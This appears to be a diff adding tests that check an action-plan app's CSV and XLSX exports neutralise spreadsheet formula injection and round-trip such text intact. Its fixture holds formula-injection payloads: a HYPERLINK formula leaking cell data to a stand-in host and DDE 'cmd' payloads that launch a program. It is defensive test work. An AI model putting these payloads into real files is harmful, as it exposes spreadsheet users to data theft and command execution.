@@ -114,6 +114,52 @@ def test_the_xlsx_export_keeps_every_cell_as_text():
     assert titles["18"].data_type == "s"
 
 
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
+    "description": '+1+cmd|" /C calc"!A0',
+    "resourcing": "-2+3+cmd|' /C calc'!A0",
+    "timeframe": "@SUM(1+1)",
+}
+
+
+def with_formulas(number: str = "18") -> Action:
+    action = Action.objects.get(plan__slug=TSOC_PLAN, number=number)
+    for name, text in FORMULAS.items():
+        setattr(action, name, text)
+    action.save()
+    return action
+
+
+def test_the_csv_export_quotes_every_cell_a_spreadsheet_would_run_as_a_formula():
+    with_formulas()
+    action = Action.objects.get(plan__slug=TSOC_PLAN, number="7")
+    action.title = "'=already quoted by hand"
+    action.save()
+    data = exported(TSOC_PLAN, "csv").getvalue().decode("utf-8-sig")
+    rows = {row["number"]: row for row in csv.DictReader(io.StringIO(data, newline=""))}
+    assert {name: rows["18"][name] for name in FORMULAS} == {
+        name: "'" + text for name, text in FORMULAS.items()
+    }
+    assert rows["7"]["title"] == "''=already quoted by hand"
+    cells = [cell for row in rows.values() for cell in row.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_text_that_looks_like_a_formula_survives_the_round_trip_exactly(file_format):
+    with_formulas()
+    quoted = Action.objects.get(plan__slug=TSOC_PLAN, number="7")
+    quoted.title = "'=already quoted by hand"
+    quoted.description = "'plain text after a quote"
+    quoted.save()
+    import_plan_file(
+        exported(TSOC_PLAN, file_format), plan_slug="copy", filename=f"x.{file_format}"
+    )
+    copy = ActionPlan.objects.get(slug="copy")
+    assert snapshot(copy) == snapshot(ActionPlan.objects.get(slug=TSOC_PLAN))
+    assert copy.actions.get(number="18").title == FORMULAS["title"]
+
+
 def test_a_single_success_measure_containing_a_semicolon_survives_the_round_trip():
     action = Action.objects.get(plan__slug=TSOC_PLAN, number="7")
     measure = action.success_measures.get()
